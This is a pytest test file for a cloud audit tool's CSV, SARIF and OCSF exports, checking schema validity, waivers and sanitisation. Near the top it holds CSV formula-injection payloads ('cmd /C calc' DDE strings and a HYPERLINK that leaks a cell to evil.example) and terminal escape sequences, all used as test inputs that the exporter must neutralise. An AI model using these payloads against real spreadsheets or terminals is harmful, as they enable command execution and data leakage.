"""CSV, SARIF and OCSF exports, checked against the published schemas vendored in fixtures."""

from __future__ import annotations

import csv
import dataclasses
import hashlib
import io
import json
import re
from functools import cache
from pathlib import Path
from typing import Any

import jsonschema
import pytest

from auditor.model import Finding, Severity, Status, WaiverMark
from auditor.reports import exports
from auditor.reports.exports import (
    CSV_COLUMNS,
    FORMATS,
    OCSF_VERSION,
    clean_text,
    csv_cell,
    ocsf_findings,
    parse_formats,
    render_csv,
    sarif_log,
    write_exports,
)
from auditor.reports.render import ReportInput
from tests.reports.conftest import CHECKS, sample_input

SCHEMAS = Path(__file__).resolve().parents[1] / "fixtures" / "schemas"
SARIF_SCHEMAS = ("sarif-schema-2.1.0.json", "sarif-2.1.0-rtm.5.json")
OCSF_SCHEMA = "ocsf-1.5.0-detection_finding-cloud.schema.json"

# Payloads from the OWASP CSV injection page and its usual variants.
FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
)
DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
TERMINAL_HOSTILE = (
    "\x1b[31mred\x1b[0m\x07 bell\r\nline2 \x1b]8;;http://evil.example\x07link\x1b]8;;\x07"
)

WAIVED = WaiverMark(
    state="waived",
    ticket="GOV-2025-017",
    approver="张三 (数据安全处)",
    reason="迁移窗口内 migration window",
    expires="2025-03-31",
    days_left=75,
)
EXPIRED = WaiverMark(
    state="expired",
    ticket="GOV-2024-002",
    approver="李四",
    reason="temporary",
    expires="2024-12-31",
    days_left=-15,
    note="expired 2024-12-31",
)
REFUSED = WaiverMark(
    state="refused",
    ticket="",
    approver="",
    reason="no ticket",
    expires="",
    days_left=None,
    note="a waiver needs a ticket",
)


def hostile_findings() -> list[Finding]:
    """Findings whose cloud-sourced strings try spreadsheet formulas and terminal escapes."""
    return [
        Finding(
            check_id="ACC-002",
            status=Status.FAIL,
            severity=Severity.HIGH,
            resource=FORMULAS[0],
            message=FORMULAS[1],
            title=CHECKS[3].title,
            theme="access",
            account="444455556666",
            region="cn-northwest-1",
            jurisdiction="CN",
            evidence=(FORMULAS[2], "second hop"),
            remediation=FORMULAS[3],
            fix_command=FORMULAS[4],
        ),
        Finding(
            check_id="RSP-001",
            status=Status.FAIL,
            severity=Severity.LOW,
            resource="arn:aws-cn:s3:::tagless",
            message=TERMINAL_HOSTILE,
            theme="responsibility",
            account=FORMULAS[5],
            region=FORMULAS[6],
            jurisdiction=FORMULAS[8],
            evidence=(FORMULAS[7],),
        ),
    ]


def waiver_findings() -> list[Finding]:
    base = Finding(
        check_id="KEY-006",
        status=Status.FAIL,
        severity=Severity.MEDIUM,
        resource="",
        message="密钥未开启自动轮换",
        theme="key",
        account="111122223333",
        region="cn-north-1",
        jurisdiction="CN",
    )
    return [
        dataclasses.replace(base, resource="arn:aws-cn:kms:cn-north-1:1:key/waived", waiver=WAIVED),
        dataclasses.replace(
            base, resource="arn:aws-cn:kms:cn-north-1:1:key/expired", waiver=EXPIRED
        ),
        dataclasses.replace(
            base, resource="arn:aws-cn:kms:cn-north-1:1:key/refused", waiver=REFUSED
        ),
    ]


def full_input() -> ReportInput:
    base = sample_input()
    findings = [*base.findings, *hostile_findings(), *waiver_findings()]
    return dataclasses.replace(base, findings=findings)


@cache
def load_schema(name: str) -> dict[str, Any]:
    schema: dict[str, Any] = json.loads((SCHEMAS / name).read_text("utf-8"))
    return schema


@cache
def validator(name: str) -> jsonschema.protocols.Validator:
    schema = load_schema(name)
    cls = jsonschema.validators.validator_for(schema)
    cls.check_schema(schema)
    return cls(schema, format_checker=cls.FORMAT_CHECKER)


def schema_errors(name: str, instance: Any) -> list[str]:
    return [
        f"{'/'.join(map(str, e.absolute_path))}: {e.message}"
        for e in validator(name).iter_errors(instance)
    ]


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def result_for(log: dict[str, Any], check_id: str, resource: str) -> dict[str, Any]:
    for result in log["runs"][0]["results"]:
        location = result["locations"][0]["logicalLocations"][0]
        if result["ruleId"] == check_id and location["fullyQualifiedName"] == resource:
            return dict(result)
    raise AssertionError(f"no SARIF result for {check_id} {resource}")


def ocsf_for(objects: list[dict[str, Any]], resource: str) -> dict[str, Any]:
    matches = [o for o in objects if o["resources"][0]["uid"] == resource]
    assert len(matches) == 1
    return matches[0]


# writing ------------------------------------------------------------------------------------


def test_write_exports_writes_each_requested_file(tmp_path: Path):
    written = write_exports(tmp_path, full_input(), FORMATS)

    assert written == {
        "csv": tmp_path / "findings.csv",
        "sarif": tmp_path / "findings.sarif",
        "ocsf": tmp_path / "findings.ocsf.json",
    }
    # html and json belong to write_report; no temporary file is left behind.
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(p.name for p in written.values())
    json.loads(written["sarif"].read_text("utf-8"))
    json.loads(written["ocsf"].read_text("utf-8"))


def test_write_exports_writes_only_what_was_asked(tmp_path: Path):
    assert write_exports(tmp_path, full_input(), ["html", "json", "sarif"]) == {
        "sarif": tmp_path / "findings.sarif"
    }
    assert [p.name for p in tmp_path.iterdir()] == ["findings.sarif"]


def test_write_exports_rejects_an_unknown_format(tmp_path: Path):
    with pytest.raises(ValueError, match="xlsx"):
        write_exports(tmp_path, full_input(), ["csv", "xlsx"])
    assert not list(tmp_path.iterdir())


def test_parse_formats():
    assert parse_formats("html, JSON,csv,,csv") == ("html", "json", "csv")
    assert parse_formats("sarif,ocsf") == ("sarif", "ocsf")
    with pytest.raises(ValueError, match="pdf"):
        parse_formats("html,pdf")
    with pytest.raises(ValueError, match="no report format"):
        parse_formats(" , ")


# CSV ----------------------------------------------------------------------------------------


def test_csv_has_bom_header_and_one_row_per_finding(tmp_path: Path):
    data = full_input()
    raw = write_exports(tmp_path, data, ["csv"])["csv"].read_bytes()

    assert raw.startswith(b"\xef\xbb\xbf")
    rows = csv_rows(raw.decode("utf-8-sig"))
    assert tuple(rows[0]) == CSV_COLUMNS
    assert len(rows) == len(data.findings)
    assert {r["run_id"] for r in rows} == {"7"}
    # PASS and UNKNOWN rows are kept: the CSV is the whole audit, not just the failures.
    assert {r["status"] for r in rows} == {"FAIL", "UNKNOWN", "PASS"}


def test_csv_preserves_chinese():
    text = render_csv(full_input())
    rows = csv_rows(text)

    flow = next(r for r in rows if r["check_id"] == "FLOW-001")
    assert flow["title"] == "Replication leaves allowed jurisdictions 复制出境"
    assert "复制到境外" in flow["message"]
    assert "—replicates_to→" in flow["evidence"]
    assert "人口库备份位于 eu-central-1 (DE)，不在允许的法域 CN 内" in text


def test_csv_neutralises_formulas():
    rows = csv_rows(render_csv(full_input()))

    evil = next(r for r in rows if r["resource"].startswith("'=cmd"))
    assert evil["resource"] == "'" + FORMULAS[0]
    assert evil["message"] == "'" + FORMULAS[1]
    assert evil["evidence"] == "'" + FORMULAS[2] + " | second hop"
    assert evil["remediation"] == "'" + FORMULAS[3]
    assert evil["fix_command"] == "'" + FORMULAS[4]

    tagless = next(r for r in rows if r["resource"] == "arn:aws-cn:s3:::tagless")
    # Tab and CR are stripped as controls; what follows is still a formula and still quoted.
    assert tagless["account"] == "'=1+1"
    assert tagless["region"] == "'=1+1"
    assert tagless["evidence"] == "'  =1+1"
    assert tagless["jurisdiction"] == "'＝1+1"


def test_no_csv_cell_can_start_a_formula():
    for row in csv_rows(render_csv(full_input())):
        for column, cell in row.items():
            if cell.lstrip("-").replace(".", "", 1).isdigit():
                continue  # a plain number such as waiver_days_left "-15" is no formula
            assert not cell.lstrip().startswith(DANGEROUS_START), (column, cell)


@pytest.mark.parametrize("payload", FORMULAS)
def test_csv_cell_quotes_every_formula(payload: str):
    assert csv_cell(payload).startswith("'")


@pytest.mark.parametrize("value", ["arn:aws-cn:s3:::ok", "云州", "-15", "75", "3.5", "", None])
def test_csv_cell_leaves_plain_values(value: str | None):
    assert csv_cell(value) == (value or "")


def test_csv_strips_terminal_escapes_but_keeps_newlines():
    rows = csv_rows(render_csv(full_input()))
    tagless = next(r for r in rows if r["resource"] == "arn:aws-cn:s3:::tagless")

    assert tagless["message"] == "red bell\nline2 link"
    for row in rows:
        for cell in row.values():
            assert not any(ord(c) < 32 and c != "\n" for c in cell)
            assert "\x1b" not in cell
            assert "\x9b" not in cell


def test_csv_shows_waiver_state_and_days_left():
    rows = {r["resource"]: r for r in csv_rows(render_csv(full_input()))}

    waived = rows["arn:aws-cn:kms:cn-north-1:1:key/waived"]
    assert (waived["waiver"], waived["waiver_days_left"], waived["waiver_ticket"]) == (
        "waived",
        "75",
        "GOV-2025-017",
    )
    assert rows["arn:aws-cn:kms:cn-north-1:1:key/expired"]["waiver_days_left"] == "-15"
    assert rows["arn:aws-cn:kms:cn-north-1:1:key/refused"]["waiver"] == "refused"
    assert rows["arn:aws-cn:s3:::trail-archive"]["waiver"] == ""


def test_clean_text():
    assert clean_text(TERMINAL_HOSTILE) == "red bell\nline2 link"
    assert clean_text("a\x00b\x7fc\x9b31md\u202eevil\u2066") == "abc31mdevil"
    assert clean_text("云州 — ok\n") == "云州 — ok\n"


# SARIF --------------------------------------------------------------------------------------


@pytest.mark.parametrize("schema", SARIF_SCHEMAS)
def test_sarif_is_valid_against_the_published_schema(schema: str):
    assert schema_errors(schema, sarif_log(full_input())) == []


@pytest.mark.parametrize("schema", SARIF_SCHEMAS)
def test_sarif_written_file_is_valid(tmp_path: Path, schema: str):
    path = write_exports(tmp_path, sample_input(), ["sarif"])["sarif"]
    assert schema_errors(schema, json.loads(path.read_text("utf-8"))) == []


def test_sarif_schema_is_strict():
    log = sarif_log(full_input())
    log["runs"][0]["results"][0]["physicalLocaton"] = {}
    assert schema_errors(SARIF_SCHEMAS[0], log)


def test_sarif_declares_every_check_as_a_rule():
    driver = sarif_log(full_input())["runs"][0]["tool"]["driver"]

    assert driver["name"] == "govaudit"
    assert driver["version"] == "0.1.0"
    assert [rule["id"] for rule in driver["rules"]] == [meta.id for meta in CHECKS]
    flow = driver["rules"][1]
    assert flow["shortDescription"]["text"] == CHECKS[1].title
    assert flow["fullDescription"]["text"] == f"Fails when {CHECKS[1].fails_when}."
    assert flow["help"]["text"] == (
        "Delete the replication rule.\n\n"
        "Fix: aws s3api delete-bucket-replication --bucket citizen-records"
    )
    assert flow["name"] == "ReplicationLeavesAllowedJurisdictions"
    assert flow["properties"]["theme"] == "flow"
    assert flow["properties"]["frameworks"] == ["DSL 31"]
    severities = {rule["id"]: rule["properties"]["security-severity"] for rule in driver["rules"]}
    assert severities == {
        "SOV-001": "9.5",
        "FLOW-001": "9.5",
        "KEY-006": "5.5",
        "ACC-002": "8.0",
        "RSP-001": "5.5",
        "LOG-001": "8.0",
    }


def test_sarif_rule_index_points_at_the_rule():
    run = sarif_log(full_input())["runs"][0]
    rules = run["tool"]["driver"]["rules"]
    for result in run["results"]:
        assert rules[result["ruleIndex"]]["id"] == result["ruleId"]


def test_sarif_reports_fail_and_unknown_and_never_a_pass():
    data = full_input()
    results = sarif_log(data)["runs"][0]["results"]

    expected = [f for f in data.findings if f.status != Status.PASS]
    assert len(results) == len(expected)
    assert all(r["kind"] == "fail" for r in results)
    assert {r["properties"]["verdict"] for r in results} == {"FAIL", "UNKNOWN"}
    assert not any(r["ruleId"] == "LOG-001" for r in results)

    unknown = result_for(sarif_log(data), "RSP-001", "arn:aws-cn:s3:::open-data")
    assert unknown["level"] == "note"
    assert unknown["properties"]["verdict"] == "UNKNOWN"


def test_sarif_levels_follow_severity():
    log = sarif_log(full_input())

    assert result_for(log, "FLOW-001", "arn:aws-cn:s3:::citizen-records")["level"] == "error"
    assert result_for(log, "ACC-002", FORMULAS[0])["level"] == "error"
    key = "arn:aws-cn:kms:cn-north-1:111122223333:key/1234abcd"
    assert result_for(log, "KEY-006", key)["level"] == "warning"
    assert result_for(log, "RSP-001", "arn:aws-cn:s3:::tagless")["level"] == "warning"


def test_sarif_locates_results_logically_not_in_files():
    for result in sarif_log(full_input())["runs"][0]["results"]:
        (location,) = result["locations"]
        assert "physicalLocation" not in location
        assert location["logicalLocations"][0]["kind"] == "resource"


def test_sarif_result_carries_context():
    result = result_for(sarif_log(full_input()), "FLOW-001", "arn:aws-cn:s3:::citizen-records")
    properties = result["properties"]

    assert result["message"]["text"].startswith("存储桶 citizen-records 复制到境外")
    assert (properties["account"], properties["region"], properties["jurisdiction"]) == (
        "111122223333",
        "cn-north-1",
        "CN",
    )
    assert properties["evidence"] == [sample_input().findings[0].evidence[0]]
    assert properties["waiver"] is None


def test_sarif_fingerprints_are_stable_and_distinct():
    first = sarif_log(full_input())["runs"][0]["results"]
    again = sarif_log(full_input())["runs"][0]["results"]
    prints = [r["partialFingerprints"]["govauditCheckResource/v1"] for r in first]

    assert prints == [r["partialFingerprints"]["govauditCheckResource/v1"] for r in again]
    assert len(set(prints)) == len(prints)


def test_sarif_suppresses_only_the_waived_finding():
    log = sarif_log(full_input())

    waived = result_for(log, "KEY-006", "arn:aws-cn:kms:cn-north-1:1:key/waived")
    (suppression,) = waived["suppressions"]
    assert suppression["kind"] == "external"
    assert suppression["status"] == "accepted"
    assert suppression["justification"] == "迁移窗口内 migration window (ticket GOV-2025-017)"
    assert waived["level"] == "warning"  # still the real verdict, only suppressed
    for state in ("expired", "refused"):
        result = result_for(log, "KEY-006", f"arn:aws-cn:kms:cn-north-1:1:key/{state}")
        assert "suppressions" not in result
        assert result["properties"]["waiver"]["state"] == state
    suppressed = [r for r in log["runs"][0]["results"] if "suppressions" in r]
    assert len(suppressed) == 1


def test_sarif_marks_an_incomplete_run():
    data = dataclasses.replace(
        sample_input(),
        run=dataclasses.replace(sample_input().run, status="incomplete", finished_at=None),
    )
    (invocation,) = sarif_log(data)["runs"][0]["invocations"]

    assert invocation == {"executionSuccessful": False, "startTimeUtc": "2025-01-15T02:00:00Z"}


def test_sarif_adds_a_rule_for_a_check_missing_from_the_catalog():
    orphan = Finding(
        check_id="LOG-099",
        status=Status.FAIL,
        severity=Severity.CRITICAL,
        resource="arn:aws-cn:cloudtrail:cn-north-1:1:trail/x",
        message="trail off",
        theme="log",
    )
    data = dataclasses.replace(sample_input(), findings=[orphan])
    log = sarif_log(data)

    assert log["runs"][0]["tool"]["driver"]["rules"][-1]["id"] == "LOG-099"
    assert log["runs"][0]["results"][0]["ruleIndex"] == len(CHECKS)
    assert schema_errors(SARIF_SCHEMAS[0], log) == []


def test_sarif_strips_terminal_escapes():
    text = json.dumps(sarif_log(full_input()), ensure_ascii=False)
    assert "\\u001b" not in text
    assert "\\u0007" not in text


# OCSF ---------------------------------------------------------------------------------------


def test_each_ocsf_finding_is_valid_against_the_detection_finding_schema():
    objects = ocsf_findings(full_input())

    assert objects
    for finding in objects:
        assert schema_errors(OCSF_SCHEMA, finding) == [], finding["finding_info"]["uid"]


def test_ocsf_written_file_is_valid(tmp_path: Path):
    path = write_exports(tmp_path, full_input(), ["ocsf"])["ocsf"]
    for finding in json.loads(path.read_text("utf-8")):
        assert schema_errors(OCSF_SCHEMA, finding) == []


def test_ocsf_schema_is_strict():
    finding = ocsf_findings(full_input())[0]
    assert schema_errors(OCSF_SCHEMA, {**finding, "compliance": {"standards": ["x"]}})
    assert schema_errors(OCSF_SCHEMA, {**finding, "severity_id": 7})
    assert schema_errors(OCSF_SCHEMA, {k: v for k, v in finding.items() if k != "cloud"})


def test_ocsf_describes_a_detection_finding():
    data = full_input()
    finding = ocsf_for(ocsf_findings(data), "arn:aws-cn:s3:::citizen-records")

    assert (finding["class_uid"], finding["category_uid"]) == (2004, 2)
    assert (finding["activity_id"], finding["type_uid"]) == (1, 200401)
    # checked_at 2025-01-15T02:03:50Z in milliseconds.
    assert finding["time"] == 1736906630000
    assert (finding["severity_id"], finding["severity"]) == (5, "Critical")
    assert (finding["status_id"], finding["status"]) == (1, "New")
    info = finding["finding_info"]
    assert info["title"] == CHECKS[1].title
    assert info["desc"].startswith("存储桶 citizen-records")
    assert info["types"] == ["flow"]
    assert info["analytic"]["uid"] == "FLOW-001"
    assert finding["resources"] == [
        {
            "uid": "arn:aws-cn:s3:::citizen-records",
            "type": "s3",
            "cloud_partition": "aws-cn",
            "region": "cn-north-1",
        }
    ]
    assert finding["cloud"]["provider"] == "AWS"
    assert finding["cloud"]["account"] == {"uid": "111122223333"}
    assert finding["cloud"]["region"] == "cn-north-1"
    assert finding["metadata"]["version"] == OCSF_VERSION
    assert finding["metadata"]["product"] == {
        "name": "govaudit",
        "vendor_name": "govaudit",
        "version": "0.1.0",
    }
    assert finding["remediation"]["desc"].startswith("Delete the replication rule.")
    unmapped = finding["unmapped"]
    assert unmapped["jurisdiction"] == "CN"
    assert unmapped["evidence"] == list(data.findings[0].evidence)
    assert unmapped["compliance"] == {"standards": ["DSL 31"]}


def test_ocsf_severity_mapping():
    objects = ocsf_findings(full_input())

    key = ocsf_for(objects, "arn:aws-cn:kms:cn-north-1:111122223333:key/1234abcd")
    assert (key["severity_id"], key["severity"]) == (3, "Medium")
    assert ocsf_for(objects, FORMULAS[0])["severity_id"] == 4
    assert ocsf_for(objects, "arn:aws-cn:s3:::tagless")["severity_id"] == 2


def test_ocsf_reports_fail_and_unknown_and_never_a_pass():
    data = full_input()
    objects = ocsf_findings(data)

    assert len(objects) == sum(f.status != Status.PASS for f in data.findings)
    assert all(o["unmapped"]["verdict"] in {"FAIL", "UNKNOWN"} for o in objects)
    unknown = ocsf_for(objects, "arn:aws-cn:s3:::open-data")
    assert unknown["unmapped"]["verdict"] == "UNKNOWN"
    assert unknown["status"] == "New"
    assert unknown["status_detail"].startswith("UNKNOWN")
    assert "arn:aws-cn:s3:::trail-archive" not in json.dumps(objects)


def test_ocsf_marks_the_waived_finding_suppressed():
    objects = ocsf_findings(full_input())

    waived = ocsf_for(objects, "arn:aws-cn:kms:cn-north-1:1:key/waived")
    assert (waived["status_id"], waived["status"]) == (3, "Suppressed")
    assert waived["unmapped"]["waiver"]["ticket"] == "GOV-2025-017"
    for state in ("expired", "refused"):
        other = ocsf_for(objects, f"arn:aws-cn:kms:cn-north-1:1:key/{state}")
        assert (other["status_id"], other["status"]) == (1, "New")
        assert other["unmapped"]["waiver"]["state"] == state
    assert sum(o["status_id"] == 3 for o in objects) == 1


def test_ocsf_finding_uid_is_stable_across_runs():
    first = ocsf_findings(sample_input())
    later_run = dataclasses.replace(sample_input().run, id=8)
    second = ocsf_findings(dataclasses.replace(sample_input(), run=later_run))

    assert [o["finding_info"]["uid"] for o in first] == [o["finding_info"]["uid"] for o in second]
    assert first[0]["metadata"]["uid"] != second[0]["metadata"]["uid"]


def test_exports_module_names():
    assert exports.FILE_NAMES == {
        "csv": "findings.csv",
        "sarif": "findings.sarif",
        "ocsf": "findings.ocsf.json",
    }


def test_vendored_schemas_match_their_recorded_sha256():
    readme = (SCHEMAS / "README.md").read_text("utf-8")
    recorded = dict(re.findall(r"^\| `([^`]+)` \| `([0-9a-f]{64})` \|$", readme, re.MULTILINE))

    assert set(recorded) == {*SARIF_SCHEMAS, OCSF_SCHEMA}
    for name, digest in recorded.items():
        assert hashlib.sha256((SCHEMAS / name).read_bytes()).hexdigest() == digest, name
